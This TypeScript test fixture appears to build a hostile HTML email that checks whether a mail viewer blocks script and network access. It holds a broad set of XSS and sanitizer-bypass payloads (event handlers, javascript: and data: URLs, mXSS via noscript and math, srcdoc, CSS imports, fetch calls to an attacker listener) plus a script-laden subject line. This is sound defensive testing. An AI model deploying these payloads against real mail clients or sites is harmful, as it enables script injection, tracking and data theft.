// HTML that tries every way a mail could run script or reach the network from the touchpoint view.
// Scripts call `xssBeacon(name)` (a binding the test exposes in every frame) and hit the attacker's
// listener; resources point at the listener (http:) or at an https: host that cannot resolve.

/** The https: image the viewer may allow; `.invalid` never resolves (RFC 6761), so it fails offline. */
export const HTTPS_IMAGE = 'https://images.invalid/pixel.png';

export function hostileHtml(a: string): string {
  return [
    `<body onload="xssBeacon('body-onload')">`,
    `<p>Dear customer, see the offer below.</p>`,
    `<script>xssBeacon('script');fetch('${a}/script')</script>`,
    `<img src="x" onerror="xssBeacon('img-onerror');fetch('${a}/img-onerror')">`,
    `<img src="${a}/http-image.png" alt="insecure tracker">`,
    `<img src="${HTTPS_IMAGE}" alt="https image">`,
    `<img srcset="${a}/srcset.png 1x" alt="srcset">`,
    `<svg onload="xssBeacon('svg-onload')"><script>xssBeacon('svg-script')</script><image href="${a}/svg-image.png"/></svg>`,
    `<a href="javascript:xssBeacon('js-url');fetch('${a}/js-url')">js link</a>`,
    `<a href="  JaVaScRiPt:xssBeacon('js-url-2')">js link 2</a>`,
    `<a href="data:text/html,<script>xssBeacon('data-url')</script>">data link</a>`,
    `<div style="background:url(${a}/css-background.png);width:expression(xssBeacon('expr'))">styled</div>`,
    `<style>@import url(${a}/css-import.css); p{background-image:url('${a}/css-rule.png')}` +
      ` @font-face{font-family:x;src:url(${a}/font.woff)} body{font-family:x}</style>`,
    `<meta http-equiv="refresh" content="0;url=${a}/meta-refresh">`,
    `<base href="${a}/base/"><img src="relative.png" alt="relative">`,
    `<iframe src="${a}/iframe"></iframe>`,
    `<iframe srcdoc="<script>xssBeacon('srcdoc')</script>"></iframe>`,
    `<form action="${a}/form" method="post"><input name="q" value="1"><button>Send</button></form>`,
    `<object data="${a}/object"></object><embed src="${a}/embed">`,
    `<link rel="stylesheet" href="${a}/link.css"><link rel="prefetch" href="${a}/prefetch">`,
    `<video poster="${a}/poster.png" autoplay><source src="${a}/video.mp4"></video>`,
    `<audio src="${a}/audio.mp3" autoplay></audio>`,
    `<table background="${a}/table-background.png"><tr><td>cell</td></tr></table>`,
    `<input type="image" src="${a}/input-image.png">`,
    `<details open ontoggle="xssBeacon('ontoggle')"><summary>more</summary>x</details>`,
    `<noscript><p title="</noscript><img src=x onerror=xssBeacon('mxss')>"></p></noscript>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=xssBeacon('math')></style></mglyph></table></mtext></math>`,
    `<a href="${a}/ping-target" ping="${a}/ping">a link with ping</a>`,
    `</body>`,
  ].join('\n');
}

/** A recorded Bcc mail (jill@acme.com → bob@globex.com, SPEC §4 S3) carrying `html`. */
export function hostileMail(id: string, html: string): string {
  const boundary = `b-${id}`;
  return [
    'From: Jill Hart <jill@acme.com>',
    'To: Bob Stone <bob@globex.com>',
    `Subject: <img src=x onerror=xssBeacon('subject')> offer ${id}`,
    'Date: Thu, 19 Nov 2026 15:04:05 +0000',
    `Message-ID: <${id}@mail.acme.com>`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    `<script>xssBeacon('text')</script> Plain text of ${id}.`,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    `--${boundary}--`,
    '',
  ].join('\r\n');
}
